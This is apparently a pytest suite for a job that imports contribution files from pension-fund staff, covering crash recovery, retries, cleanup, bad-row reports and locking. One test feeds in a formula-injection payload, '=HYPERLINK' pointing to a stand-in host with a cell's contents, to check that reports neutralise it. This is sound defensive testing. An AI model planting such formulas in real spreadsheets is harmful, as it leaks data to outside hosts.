"""Files that staff sent in are imported once; whatever dies meanwhile, nothing is half done or left lying."""

from __future__ import annotations

import csv
import io
import os
import signal
from dataclasses import replace
from datetime import timedelta
from pathlib import Path
from uuid import UUID, uuid4

import pytest
import redis
from openpyxl import Workbook  # type: ignore[import-untyped]
from rq import Queue
from sqlalchemy import Connection, func, select, text

from importing import report, uploads
from importing.staging import begin
from jobs import IMPORTS, clock
from jobs import imports as work
from jobs.context import Context, current
from store import Store, imports
from tests.jobs.conftest import eventually, process
from tests.store.people import person

HEADER = "number,month,worker,employer,state,credited,paid_on\n"
GOOD = f"{HEADER}10000009,2026-09,15600,0,0,no,2026-09-10\n10000009,2026-10,15600,0,0,no,\n"
BAD = f"{GOOD}10000009,2026-13,15600,0,0,no,\n77777777,2026-09,15600,0,0,no,\n"
WRONG = ["10000009", "2026-13", "15600", "0", "0", "no", ""]


@pytest.fixture
def folder(context: Context, tmp_path: Path) -> Path:
    """Where the files lie."""
    current.set(replace(context, files=tmp_path / "files"))
    return tmp_path / "files"


def workbook(*rows: list[str]) -> bytes:
    """An Excel workbook with these rows."""
    book, file = Workbook(), io.BytesIO()
    for texts in rows:
        book.active.append(texts)
    for row in book.active.iter_rows():
        for cell in row:
            cell.data_type = "s"  # a text, be it one that begins with =
    book.save(file)
    return file.getvalue()


def sent_in(store: Store, folder: Path, words: str | bytes, skip_bad: bool = False) -> UUID:
    """A file that waits."""
    content = words.encode() if isinstance(words, str) else words
    person(store, number="10000009")
    id_ = uuid4()
    with uploads.kept(folder, id_, io.BytesIO(content)) as (draft, size):
        with store.transaction() as connection:
            assert imports.ask(connection, id_, "contributions", skip_bad, "officer@fund.example", size)
        uploads.adopt(folder, id_, draft)
    return id_


def found(store: Store, id_: UUID) -> imports.Import:
    with store.transaction() as connection:
        one = imports.find(connection, id_)
    assert one
    return one


def months(store: Store) -> int:
    with store.transaction() as connection:
        return int(connection.execute(text("SELECT count(*) FROM contributions")).scalar_one())


def test_a_file_is_loaded_and_gone(store: Store, folder: Path) -> None:
    id_ = sent_in(store, folder, GOOD)
    assert uploads.place(folder, id_).stat().st_mode & 0o777 == 0o600
    assert folder.stat().st_mode & 0o777 == 0o700
    work.take_in(str(id_))
    one = found(store, id_)
    assert (one.state, one.counts["new"], one.done) == ("done", 2, one.size)
    assert months(store) == 2
    assert list(folder.iterdir()) == []


def test_a_file_whose_worker_died_after_it_was_loaded_is_loaded_again_and_changes_nothing(
    store: Store, folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    id_ = sent_in(store, folder, GOOD)
    with monkeypatch.context() as dying:
        dying.setattr(imports, "end", lambda *_: (_ for _ in ()).throw(KeyboardInterrupt))
        with pytest.raises(KeyboardInterrupt):
            work.take_in(str(id_))
    assert found(store, id_).state == "waiting"
    work.take_in(str(id_))
    assert (found(store, id_).state, found(store, id_).counts["unchanged"], months(store)) == ("done", 2, 2)


def test_a_file_that_ends_its_worker_each_time_is_given_up(
    store: Store, folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    id_ = sent_in(store, folder, GOOD)
    with monkeypatch.context() as dying:
        dying.setattr(work, "load", lambda *_, **__: (_ for _ in ()).throw(KeyboardInterrupt))
        for _ in range(work.MOST_TRIES):
            with pytest.raises(KeyboardInterrupt):
                work.take_in(str(id_))
    work.take_in(str(id_))
    assert (found(store, id_).state, found(store, id_).reason, months(store)) == ("failed", "given_up", 0)
    assert list(folder.iterdir()) == []


def test_what_nobody_asked_for_in_the_end_goes_after_a_day(store: Store, folder: Path) -> None:
    id_, waits = sent_in(store, folder, BAD), uuid4()
    work.take_in(str(id_))
    with store.transaction() as connection:
        imports.ask(connection, waits, "members", False, "officer@fund.example", 1)
    for name in (str(waits), str(uuid4()), f"{uuid4()}.x.part", f"{waits}.errors.csv.part", f"{uuid4()}.errors.csv"):
        (folder / name).write_text("10000009")
        os.utime(folder / name, (0, 0))
    (folder / "new").write_text("10000009")
    work.clear(str(id_))
    assert {file.name for file in folder.iterdir()} == {str(waits), "new"}


def test_bad_rows_are_reported_and_nothing_is_loaded(store: Store, folder: Path) -> None:
    id_ = sent_in(store, folder, BAD)
    work.take_in(str(id_))
    assert (found(store, id_).state, found(store, id_).counts["bad"], months(store)) == ("bad", 2, 0)
    assert uploads.bad_rows(folder, id_, 50) == [("4", "month", ["month"]), ("5", "number", ["unknown_member"])]
    assert list(folder.iterdir()) == [report.place(uploads.place(folder, id_))]
    work.clear(str(id_))
    assert list(folder.iterdir()) == []


@pytest.mark.parametrize(
    ("header", "remark"),
    [
        ("paid\nhere", "a line ends in the name of a column, as Excel lets people do"),
        ("a;b;c;d;e;f;g;h;i;j;k;l;m", "more semicolons in a name than commas between columns"),
        ('say "no"', "quotation marks"),
    ],
)
def test_bad_rows_are_listed_however_another_column_is_called(
    store: Store, folder: Path, header: str, remark: str
) -> None:
    id_ = sent_in(store, folder, workbook([*HEADER.strip().split(","), header], [*WRONG, "x"]))
    work.take_in(str(id_))
    assert found(store, id_).state == "bad", remark
    [(_row, column, codes)] = uploads.bad_rows(folder, id_, 50)
    assert (column, codes) == ("month", ["month"]), remark


def test_bad_rows_are_listed_up_to_one_that_is_too_long_for_a_page(store: Store, folder: Path) -> None:
    id_ = sent_in(store, folder, workbook([*HEADER.strip().split(","), "note"], [*WRONG, "x"], [*WRONG, "x" * 9_999]))
    work.take_in(str(id_))
    place = report.place(uploads.place(folder, id_))
    place.write_text(place.read_text("utf-8").replace("x" * 9_999, "x" * 200_000), "utf-8")
    assert len(uploads.bad_rows(folder, id_, 50)) == 1


def test_excel_reckons_nothing_in_a_report_and_an_import_reads_it_as_it_was(store: Store, folder: Path) -> None:
    odd = [*WRONG[:2], "-15600", *WRONG[3:], '=HYPERLINK("http://x.example/"&A1)', "@SUM(1)"]
    id_ = sent_in(store, folder, workbook([*HEADER.strip().split(","), "=1+1", "note"], odd))
    work.take_in(str(id_))
    first = report.place(uploads.place(folder, id_)).read_text("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(first)) for cell in row]
    assert "'-15600" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
    with store.transaction() as connection:
        connection.execute(text("DELETE FROM members"))
    again = sent_in(store, folder, first)
    work.take_in(str(again))
    assert report.place(uploads.place(folder, again)).read_text("utf-8-sig") == first


def test_good_rows_are_loaded_without_the_bad_ones_if_that_is_wanted(store: Store, folder: Path) -> None:
    id_ = sent_in(store, folder, BAD, skip_bad=True)
    work.take_in(str(id_))
    assert (found(store, id_).state, found(store, id_).counts["bad"], months(store)) == ("done", 2, 2)


@pytest.mark.parametrize(
    ("words", "reason"),
    [("a,b\n1,2\n", "no_columns"), ("", "empty"), ("number,month\n", "missing_columns"), ("ab\0cd", "no_text")],
)
def test_what_is_no_file_of_ours_is_refused_with_a_reason(store: Store, folder: Path, words: str, reason: str) -> None:
    id_ = sent_in(store, folder, words)
    work.take_in(str(id_))
    assert (found(store, id_).state, found(store, id_).reason.split(" ")[0]) == ("failed", reason)
    assert list(folder.iterdir()) == []


def test_while_another_import_runs_it_waits(store: Store, folder: Path) -> None:
    id_ = sent_in(store, folder, GOOD)
    with store.transaction() as connection:
        begin(connection)
        for _ in range(work.MOST_TRIES + 1):
            work.take_in(str(id_))
    assert found(store, id_).state == "waiting"
    assert uploads.place(folder, id_).exists()
    work.take_in(str(id_))
    assert found(store, id_).state == "done"


def test_the_clock_goes_on_while_a_file_is_imported_and_a_file_while_the_clock_goes_round(
    store: Store, folder: Path, valkey: redis.Redis
) -> None:
    id_ = sent_in(store, folder, GOOD)
    with store.transaction() as connection:
        begin(connection)
        assert clock.go_round(store, valkey)["imports_fed"] == 1
    with store.transaction() as guard:
        guard.execute(select(func.pg_advisory_xact_lock(clock._LOCK)))
        work.take_in(str(id_))
    assert found(store, id_).state == "done"


def test_the_clock_asks_again_for_what_the_queue_has_lost_and_clears_what_is_old(
    store: Store, folder: Path, valkey: redis.Redis
) -> None:
    id_ = sent_in(store, folder, BAD)
    assert work.look_after(store, valkey) == 1
    assert work.look_after(store, valkey) == 0  # it is asked for already
    work.take_in(str(id_))
    valkey.flushdb()
    with store.transaction() as connection:
        old = {"old": timedelta(days=2)}
        connection.execute(text("UPDATE imports SET asked_at = asked_at - :old"), old)
    assert work.look_after(store, valkey) == 1
    [job] = Queue(IMPORTS, connection=valkey, serializer="json").jobs
    assert job.args == [str(id_)] or job.args == (str(id_),)


def test_a_worker_that_is_killed_in_the_middle_has_changed_nothing_and_another_imports_it(
    store: Store, folder: Path, valkey: redis.Redis, postgres_url: str, valkey_url: str
) -> None:
    id_ = sent_in(store, folder, GOOD)
    work.look_after(store, valkey)
    with process(IMPORTS, postgres_url, valkey_url, str(folder)) as running, store.transaction() as connection:
        connection.execute(text("LOCK TABLE contributions IN ACCESS EXCLUSIVE MODE"))
        eventually(lambda: waits(connection), 20)
        running.send_signal(signal.SIGKILL)
        running.wait()
    assert (found(store, id_).state, months(store)) == ("waiting", 0)
    valkey.flushall()
    assert work.look_after(store, valkey) == 1
    with process(IMPORTS, postgres_url, valkey_url, str(folder)):
        eventually(lambda: found(store, id_).is_over, 30)
    assert (found(store, id_).counts["new"], months(store)) == (2, 2)
    assert list(folder.iterdir()) == []


def waits(connection: Connection) -> bool:
    """Whether somebody waits for a lock that we hold."""
    question = "SELECT count(*) FROM pg_locks WHERE NOT granted AND pg_backend_pid() = ANY(pg_blocking_pids(pid))"
    return bool(connection.execute(text(question)).scalar_one())
